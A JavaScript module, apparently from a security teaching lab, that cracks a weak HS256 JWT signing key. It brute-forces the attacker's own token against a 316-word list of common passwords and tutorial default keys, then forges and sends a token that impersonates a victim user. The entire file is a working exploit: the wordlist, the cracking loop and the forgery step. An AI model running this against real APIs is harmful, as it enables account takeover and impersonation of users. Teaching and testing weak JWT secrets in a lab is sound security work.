// A weak HS256 key cracked on the page: the attacker takes a token of its own (it has an
// account like anyone), tries every word of a small wordlist as the HMAC key of that token
// (WebCrypto), and with the word that reproduces the signature signs a token for the victim.

import { config, finish } from "./common.js";
import { attackerTokens, b64, conclude, useToken, victimClaims, victimId } from "./tokens.js";

/** 316 words: common passwords and the keys that tutorials, frameworks' examples and jwt.io show. */
const WORDS = [
  "123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111", "1234567",
  "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein", "shadow", "master",
  "666666", "qwertyuiop", "123321", "mustang", "1234567890", "michael", "654321", "superman", "1qaz2wsx",
  "7777777", "121212", "000000", "qazwsx", "123qwe", "killer", "trustno1", "jordan", "jennifer",
  "zxcvbnm", "asdfgh", "hunter", "buster", "soccer", "harley", "batman", "andrew", "tigger", "sunshine",
  "iloveyou", "2000", "charlie", "robert", "thomas", "hockey", "ranger", "daniel", "starwars",
  "klaster", "112233", "george", "computer", "michelle", "jessica", "pepper", "1111", "zxcvbn",
  "555555", "11111111", "131313", "freedom", "777777", "pass", "maggie", "159753", "aaaaaa", "ginger",
  "princess", "joshua", "cheese", "amanda", "summer", "love", "ashley", "nicole", "chelsea", "biteme",
  "matthew", "access", "yankees", "987654321", "dallas", "austin", "thunder", "taylor", "matrix",
  "mobilemail", "mom", "monitor", "monitoring", "montana", "moon", "moscow", "welcome", "welcome1",
  "admin", "admin123", "administrator", "root", "toor", "changeme", "changeit", "default", "guest",
  "test", "test123", "testing", "demo", "demo123", "secret", "secret1", "secret123", "secretkey",
  "secret_key", "secret-key", "mysecret", "mysecretkey", "my_secret", "my-secret", "my-secret-key",
  "supersecret", "supersecretkey", "super-secret", "super_secret_key", "topsecret", "verysecret",
  "notsecret", "nosecret", "s3cr3t", "s3cret", "p@ssw0rd", "passw0rd", "password1", "password123",
  "Password1", "jwt", "jwtsecret", "jwt_secret", "jwt-secret", "jwtkey", "jwt_key", "jwt-key",
  "jwt_secret_key", "jwt-secret-key", "jwttoken", "token", "tokensecret", "token_secret", "auth",
  "authsecret", "auth_secret", "authkey", "signingkey", "signing_key", "signing-key", "hmac", "hmacsecret",
  "hs256", "HS256", "key", "key123", "mykey", "privatekey", "private_key", "private-key", "apikey",
  "api_key", "api-key", "apisecret", "api_secret", "app_secret", "appsecret", "app-secret", "application",
  "backend", "server", "serversecret", "server_secret", "session", "sessionsecret", "session_secret",
  "cookie_secret", "cookiesecret", "express", "node", "nodejs", "django", "django-insecure", "flask",
  "flasksecret", "rails", "laravel", "spring", "springboot", "symfony", "keyboard cat", "keyboardcat",
  "shhhhh", "shhhhhh", "shh", "pssst", "hush", "quiet", "silence", "hidden", "private", "confidential",
  "classified", "your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "your_jwt_secret",
  "your-secret-key", "your_secret_key", "yoursecret", "your-secret", "replace-me", "replaceme",
  "change-me", "change_me", "todo", "fixme", "temp", "temporary", "dev", "development", "devsecret",
  "dev_secret", "local", "localhost", "staging", "prod", "production", "example", "sample", "placeholder",
  "foobar", "foo", "bar", "baz", "qux", "hello", "hello123", "helloworld", "hello-world", "world",
  "abc", "abcd", "abcdef", "abcdefg", "abcdefgh", "a1b2c3", "xyz", "zzzzzz", "asdf", "asdfasdf",
  "qwer", "qwerty123", "1q2w3e4r", "1q2w3e", "zaq12wsx", "q1w2e3r4", "iloveu", "lovely", "angel",
  "flower", "orange", "banana", "apple", "cherry", "lemon", "purple", "yellow", "silver", "golden",
  "diamond", "crystal", "tiger", "lion", "eagle", "falcon", "phoenix", "wizard", "merlin", "gandalf",
  "ninja", "samurai", "pirate", "rocket", "galaxy", "planet", "cosmos", "universe", "infinity",
  "corslab", "lab", "security", "secure", "insecure", "unsafe", "weak", "simple", "easy", "random",
  "unknown", "nothing", "none", "null", "undefined",
];

const encoder = new TextEncoder();

async function hmac(word, message) {
  const key = await crypto.subtle.importKey("raw", encoder.encode(word), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return b64(new Uint8Array(await crypto.subtle.sign("HMAC", key, encoder.encode(message))));
}

try {
  const own = (await attackerTokens()).access;
  const [header, payload, signature] = own.split(".");
  const started = performance.now();
  let word = null;
  let tried = 0;
  for (const candidate of WORDS) {
    tried += 1;
    if ((await hmac(candidate, `${header}.${payload}`)) === signature) {
      word = candidate;
      break;
    }
  }
  const cracking = { tried, of: WORDS.length, ms: Math.round(performance.now() - started), word };
  if (word === null) {
    finish(false, { against: config.against, own, cracking }, {
      en: `none of the ${WORDS.length} words reproduces the signature of the attacker's own token: this key is not in the list.`,
      ja: `${WORDS.length} 語のどれでも攻撃者自身のトークンの署名を再現できません。この鍵はリストにありません。`,
    });
  } else {
    const claims = victimClaims(await victimId());
    const message = `${header}.${b64(JSON.stringify(claims))}`;
    const token = `${message}.${await hmac(word, message)}`;
    const used = await useToken(token);
    await conclude({ against: config.against, own, cracking, token, used }, (body) => body.user && body.user.username === config.victim, {
      en: `the API took a token signed with the cracked key ${JSON.stringify(word)} (word ${tried} of ${WORDS.length}, ${cracking.ms} ms) as ${config.victim}.`,
      ja: `API は割り出した鍵 ${JSON.stringify(word)}（${WORDS.length} 語中 ${tried} 語目、${cracking.ms} ms）で署名したトークンを ${config.victim} として受け付けました。`,
    });
  }
} catch (e) {
  finish(false, { against: config.against, error: String(e) }, { en: String(e), ja: String(e) });
}
